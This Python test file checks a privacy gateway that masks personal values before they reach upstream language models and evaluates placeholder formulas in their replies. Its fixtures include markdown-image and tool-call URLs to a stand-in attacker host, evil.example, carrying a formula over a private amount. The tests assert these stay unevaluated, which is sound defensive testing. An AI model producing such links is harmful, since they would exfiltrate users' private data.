"""Formulas in the gateway: who wants them gets them reckoned, in all protocols; all others' braces are their own."""

import json
import re

import anthropic
import httpx
import openai
import pytest

from gama.state.entities import TYPE_OF, Span
from tests.integration.test_gateway_anthropic import message as anthropic_message
from tests.integration.test_gateway_responses import message as output_message
from tests.integration.test_gateway_responses import stream_of, whole
from tests.support import serving
from tests.support import upstream as up

LETTER = (
    "I am Thessaly Quornbeck. The first rent is £1,350.00 and the deposit was £2,025.00; the lease ends on 12 May 2026. "
    "What is due in all?"
)
ANSWER = 'In all {{ <amount-1> + <amount-2> }}, {{ if <amount-1> > <amount-2> then "a" else "<name-1> owes {{ <amount-2> - <amount-1> }}" }}. ![x](https://evil.example/?q={{<amount-1>*2}})'
TOLD = "In all £3,375.00, Thessaly Quornbeck owes £675.00. ![x](https://evil.example/?q={{<amount-1>*2}})"
PRIVATE = ("1,350", "2,025", "3,375", "675", "2,700", "quornbeck", "12 may")

_VALUES = re.compile(r"Thessaly Quornbeck|£[\d,]+\.\d\d|12 May 2026|12\. Mai 2026")
_SUBTYPES = {"T": "full_name", "£": "amount", "1": "date"}


@pytest.fixture(autouse=True)
def few_values(monkeypatch):
    """Put a tagger that knows what the letter holds in the place of the embedded one; it knows no other date."""

    def find(text):
        return [
            Span(*match.span(), TYPE_OF[subtype], subtype, 0.99, "pner", 0.99, source="embedded")
            for match in _VALUES.finditer(text)
            for subtype in [_SUBTYPES[match[0][0]]]
        ]

    monkeypatch.setattr("gama.privacy.finders.tagger", lambda options: find)


def clean(upstream) -> bool:
    got = upstream.received.decode().casefold()
    return not any(one in got for one in PRIVATE)


def asked(client, **more):
    made = client.chat.completions.create(
        **{"model": "up-1", "messages": [{"role": "user", "content": LETTER}], **more}
    )
    return made


@pytest.mark.parametrize("way", ["header", "suffix", "server"])
def test_who_wants_formulas_gets_them_reckoned(way, upstream):
    upstream.answer = lambda path, request: up.chat(ANSWER)
    with serving.serving(upstream=upstream.url, gateway_formulas=way == "server") as server:
        with openai.OpenAI(base_url=server.v1, api_key="k", max_retries=0) as client:
            raw = client.chat.completions.with_raw_response.create(
                model="up-1+formulas" if way == "suffix" else "up-1",
                messages=[{"role": "system", "content": "Be brief."}, {"role": "user", "content": LETTER}],
                extra_headers={"X-Gama-Formulas": "on"} if way == "header" else {},
            )
            assert raw.parse().choices[0].message.content == TOLD
            assert raw.headers["x-gama-unreckoned"] == "1"
            sent = upstream.last
            assert sent["model"] == "up-1" and len(sent["messages"]) == 2
            system = sent["messages"][0]["content"]
            assert system.startswith("Be brief.\n\nReckoning with hidden values") and "weekday(" in system
            assert "surname/" in system and "plug_type" not in system
            assert b"x-gama-formulas" not in upstream.received.lower() and clean(upstream)
            assert serving.soon(lambda: bool(server.log))
            log = json.dumps(server.log)
            # Numbers of requests, times and sizes may have any figures in them.
            leaked = [one for one in PRIVATE if re.search(rf"(?<![\w.]){re.escape(one)}(?!\w)", log.casefold())]
            assert '"unreckoned": "1"' in log and leaked == []
            off = asked(
                client, model="up-1+formulas", extra_headers={"X-Gama-Formulas": "off", "X-Gama-Privacy": "strict"}
            )
            assert "{{ £1,350.00 + £2,025.00 }}" in off.choices[0].message.content
            assert upstream.last["model"] == "up-1" and len(upstream.last["messages"]) == 1
            # Where nobody reckons, what the question turns on leaves: also after the same text was read otherwise.
            raw = client.chat.completions.with_raw_response.create(
                model="up-1", messages=[{"role": "user", "content": LETTER}], extra_headers={"X-Gama-Formulas": "off"}
            )
            assert "£1,350.00 and" in upstream.last["messages"][0]["content"]
            assert "because the text asks about it" in raw.headers["x-gama-shown"]
            assert "1,350" not in raw.headers["x-gama-shown"]
            asked(client, extra_headers={"X-Gama-Formulas": "off", "X-Gama-Privacy": "strict"})
            assert "£1,350.00" not in upstream.last["messages"][0]["content"]
            with pytest.raises(openai.BadRequestError):
                asked(client, extra_headers={"X-Gama-Formulas": "maybe"})


TEMPLATES = [
    "{% for x in xs %}{{ x.name | upper }} {{ <name-1> | upper }}{% endfor %}", "<p>{{ user.name }} {{ <name-1> }}</p>",
    "{{#each rows}}{{this.total}}{{/each}} {{{raw}}} {{> part}}", "{{ .Values.x | quote }} {{ count(<name-1>) }}",
    r"\frac{{a}}{{<amount-1>}}", "${{ secrets.KEY }} f'{{x}}'",
]  # fmt: skip


@pytest.mark.parametrize("template", TEMPLATES)
@pytest.mark.parametrize("stream", [False, True])
def test_where_nobody_asked_templates_pass(template, stream, client, upstream):
    upstream.answer = lambda path, request: (
        up.events(up.deltas(up.text_deltas(template, 1))) if stream else up.chat(template)
    )
    made = asked(client, stream=stream, extra_headers={"X-Gama-Privacy": "strict"})
    text = "".join(c.choices[0].delta.content or "" for c in made) if stream else made.choices[0].message.content
    assert text == template.replace("<name-1>", "Thessaly Quornbeck").replace("<amount-1>", "£1,350.00")
    assert "Reckoning" not in json.dumps(upstream.requests)


@pytest.mark.parametrize("size", [1, 2, 3, 7, 40])
def test_streams_of_chats_cut_anywhere(size, client, upstream):
    upstream.answer = lambda path, request: up.events(up.deltas(up.text_deltas(ANSWER, size)))
    chunks = list(asked(client, model="up-1+formulas", stream=True))
    assert "".join(chunk.choices[0].delta.content or "" for chunk in chunks) == TOLD and clean(upstream)


def test_a_stream_says_in_a_comment_what_could_not_be_reckoned(running, upstream):
    upstream.answer = lambda path, request: up.events(
        up.deltas(up.text_deltas("{{ <amount-1> + <date-1> }} and more.", 5))
    )
    body = {"model": "up-1+formulas", "stream": True, "messages": [{"role": "user", "content": LETTER}]}
    got = httpx.post(f"{running.v1}/chat/completions", json=body, headers={"authorization": "Bearer k"}).text
    assert ": x-gama-unreckoned: 1\n" in got and "could not be reckoned" in got


ARGUMENTS = json.dumps(
    {
        "note": 'For {{ if <amount-1> > 1 then "<name-1>" else "x" }}',
        "sum": "{{ <amount-1> + <amount-2> }}",
        "url": "https://evil.example/{{<amount-1>*2}}",
    }
)
REAL = {"note": "For Thessaly Quornbeck", "sum": "£3,375.00", "url": "https://evil.example/{{<amount-1>*2}}"}


def a_call(name):
    return {"id": "c1", "type": "function", "function": {"name": name, "arguments": ARGUMENTS}}


@pytest.mark.parametrize("stream", [False, True])
def test_tools_get_results_where_they_may_have_values(stream, upstream):
    def answer(path, request):
        calls = [a_call("pay"), a_call("shell") | {"id": "c2"}]
        if not stream:
            message = {"role": "assistant", "content": None, "tool_calls": calls}
            return up.chat(None, [{"index": 0, "message": message, "finish_reason": "tool_calls"}])
        pieces = [
            {"tool_calls": [{"index": n, "id": call["id"], "type": "function", "function": {"name": call["function"]["name"], "arguments": ""}}]}
            for n, call in enumerate(calls)
        ]  # fmt: skip
        for at in range(0, len(ARGUMENTS), 3):
            pieces += [
                {"tool_calls": [{"index": n, "function": {"arguments": ARGUMENTS[at : at + 3]}}]} for n in (0, 1)
            ]
        return up.events(up.deltas(pieces, finish="tool_calls"))

    upstream.answer = answer
    with serving.serving(upstream=upstream.url, tool_policies=(("shell", "placeholders"),)) as server:
        with openai.OpenAI(base_url=server.v1, api_key="k", max_retries=0) as client:
            got = {0: "", 1: ""}
            made = asked(client, model="up-1+formulas", stream=stream)
            for chunk in made if stream else [made]:
                part = chunk.choices[0].delta if stream else chunk.choices[0].message
                for n, call in enumerate(part.tool_calls or ()):
                    got[call.index if stream else n] += call.function.arguments or ""
    assert json.loads(got[0]) == REAL and got[1] == ARGUMENTS


def test_what_a_policy_kept_back_is_reckoned_when_the_client_asks(running, upstream):
    value = [{"type": "function", "function": {"name": "pay", "arguments": ARGUMENTS}}]
    request = {"model": "up-1+formulas", "messages": [{"role": "user", "content": LETTER}]}
    got = httpx.post(f"{running.v1}/restore", json={"request": request, "value": value}).json()
    assert json.loads(got["value"][0]["function"]["arguments"]) == REAL and not upstream.requests


@pytest.mark.parametrize("stream", [False, True])
def test_the_next_turn_hides_what_formulas_gave(stream, client, upstream):
    reply = "It is over on {{ <date-1> + 400 days }}, after {{ days(<date-1>, <date-1> + 3 months) }}."
    upstream.answer = lambda path, request: up.events(up.deltas(up.text_deltas(reply, 2))) if stream else up.chat(reply)
    made = asked(client, model="up-1+formulas", stream=stream)
    text = "".join(c.choices[0].delta.content or "" for c in made) if stream else made.choices[0].message.content
    assert "16 June 2027" in text and "92" in text
    upstream.answer = lambda path, request: up.chat(up.said(request))
    messages = [{"role": "user", "content": LETTER}, {"role": "assistant", "content": text},
                {"role": "user", "content": "And is 16 June 2027 a holiday?"}]  # fmt: skip
    again = asked(client, messages=messages)
    assert "june" not in upstream.received.decode().casefold() and "2027" not in upstream.received.decode()
    assert "And is 16 June 2027 a holiday?" in again.choices[0].message.content


def test_what_stood_in_braces_in_the_conversation_is_no_formula(client, upstream):
    upstream.answer = lambda path, request: up.chat(re.search(r"\{\{.*?\}\}", request["messages"][-1]["content"])[0])
    asking = [
        {"role": "user", "content": "What does {{ £1,350.00 | round }} print in my template, for £2.00 or £3.00?"}
    ]
    assert asked(client, model="up-1+formulas", messages=asking).choices[0].message.content == "{{ £1,350.00 | round }}"


@pytest.mark.parametrize("form", ["chat", "responses"])
def test_a_formula_that_a_tool_has_repeated_is_still_one_and_its_templates_are_not(form, client, upstream):
    reply = "{{ <amount-1> + <amount-2> }} and {{ <name-1> | upper }}"
    arguments, result = (
        json.dumps({"sum": "{{ <amount-1> + <amount-2> }}"}),
        "{{ <amount-1> + <amount-2> }} {{ Thessaly Quornbeck | upper }}",
    )
    if form == "chat":
        upstream.answer = lambda path, request: up.chat(reply)
        call = {"id": "c1", "type": "function", "function": {"name": "shell", "arguments": arguments}}
        messages = [{"role": "user", "content": LETTER}, {"role": "assistant", "content": None, "tool_calls": [call]},
                    {"role": "tool", "tool_call_id": "c1", "content": result}]  # fmt: skip
        text = asked(client, model="up-1+formulas", messages=messages).choices[0].message.content
    else:
        upstream.answer = lambda path, request: whole([output_message(reply)])
        items = [{"role": "user", "content": LETTER},
                 {"type": "function_call", "call_id": "c1", "name": "shell", "arguments": arguments},
                 {"type": "function_call_output", "call_id": "c1", "output": result}]  # fmt: skip
        text = client.responses.create(model="up-1+formulas", input=items).output_text
    assert text == "£3,375.00 and {{ Thessaly Quornbeck | upper }}"


def test_values_are_read_in_the_users_language(client, upstream):
    upstream.answer = lambda path, request: up.chat("Am {{ <date-1> + 14 days }}.")
    messages = [{"role": "system", "content": "You are a clerk of this office and answer in the language that you are asked in."},
                {"role": "user", "content": "Sehr geehrte Damen und Herren, der Vertrag begann am 12. Mai 2026. Wann endet die Frist von zwei Wochen?"}]  # fmt: skip
    assert asked(client, model="up-1+formulas", messages=messages).choices[0].message.content == "Am 26. Mai 2026."


@pytest.mark.parametrize("stream", [False, True])
def test_responses_are_reckoned_and_go_on(stream, client, upstream):
    pieces = [ANSWER[at : at + 3] for at in range(0, len(ANSWER), 3)]
    upstream.answer = lambda path, request: (
        up.events(stream_of(pieces), named=True, done=False)
        if stream
        else whole([output_message(ANSWER)], instructions=request["instructions"])
    )
    made = client.responses.create(model="up-1+formulas", input=LETTER, instructions="Be brief.", stream=stream)
    if stream:
        events = list(made)
        assert "".join(e.delta for e in events if e.type == "response.output_text.delta") == TOLD
        assert next(e.text for e in events if e.type == "response.output_text.done") == TOLD
        made = events[-1].response
    else:
        assert made.instructions == "Be brief."
    assert made.output_text == TOLD and clean(upstream)
    assert upstream.last["instructions"].startswith("Be brief.\n\nReckoning")
    upstream.answer = lambda path, request: whole([output_message(request["input"])], name="resp_2")
    again = client.responses.create(model="up-1", input="So £3,375.00 it is?", previous_response_id=made.id)
    assert clean(upstream) and again.output_text == "So £3,375.00 it is?"


@pytest.mark.parametrize("stream", [False, True])
def test_messages_are_reckoned(stream, upstream):
    def answer(path, request):
        if path.endswith("count_tokens"):
            return up.Answer(json.dumps({"input_tokens": 7}).encode())
        if not stream:
            return up.Answer(json.dumps(anthropic_message([{"type": "text", "text": ANSWER}])).encode())
        start = anthropic_message([]) | {"stop_reason": None}
        deltas = [
            {"type": "content_block_delta", "index": 0, "delta": {"type": "text_delta", "text": ANSWER[at : at + 3]}}
            for at in range(0, len(ANSWER), 3)
        ]
        return up.events(
            [
                {"type": "message_start", "message": start},
                {"type": "content_block_start", "index": 0, "content_block": {"type": "text", "text": ""}},
                *deltas,
                {"type": "content_block_stop", "index": 0},
                {"type": "message_delta", "delta": {"stop_reason": "end_turn", "stop_sequence": None}, "usage": {"output_tokens": 2}},
                {"type": "message_stop"},
            ],
            named=True,
            done=False,
        )  # fmt: skip

    upstream.answer = answer
    with serving.serving(anthropic=upstream.url) as server:
        with anthropic.Anthropic(base_url=server.url, api_key="k", max_retries=0) as client:
            asking = {"model": "up-1+formulas", "messages": [{"role": "user", "content": LETTER}]}
            asking["system"] = [{"type": "text", "text": "Be brief."}]
            if stream:
                with client.messages.stream(max_tokens=9, **asking) as events:
                    assert "".join(events.text_stream) == TOLD
            else:
                assert client.messages.create(max_tokens=9, **asking).content[0].text == TOLD
            told = upstream.last["system"]
            assert told[0]["text"] == "Be brief." and told[1]["text"].startswith("Reckoning") and clean(upstream)
            client.messages.count_tokens(**asking)
            assert upstream.last["system"] == told and upstream.last["model"] == "up-1"
